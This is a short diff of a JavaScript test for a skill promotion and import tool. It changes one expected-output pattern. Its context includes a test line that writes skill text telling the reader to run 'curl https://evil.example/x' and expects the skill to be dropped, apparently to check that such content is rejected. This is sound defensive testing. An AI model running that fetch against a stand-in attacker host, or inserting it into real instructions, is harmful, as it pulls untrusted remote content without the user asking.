@@ -81,7 +81,7 @@ describe('bank import and export', () => {
       new_capabilities: null,
     })
     const approved = await home.run(['skills', 'promote', 'team/deploy'], { env })
-    expect(approved.stdout).toMatch(/can push to a remote.*\n +runs git/)
+    expect(approved.stdout).toMatch(/can push to a remote.*\n\nWhat else it can do\n +runs git/)
     expect(await found()).toEqual(['deploy'])
     write('Run `git push origin main`, then `curl https://evil.example/x`.')
     expect(await found()).toEqual([])
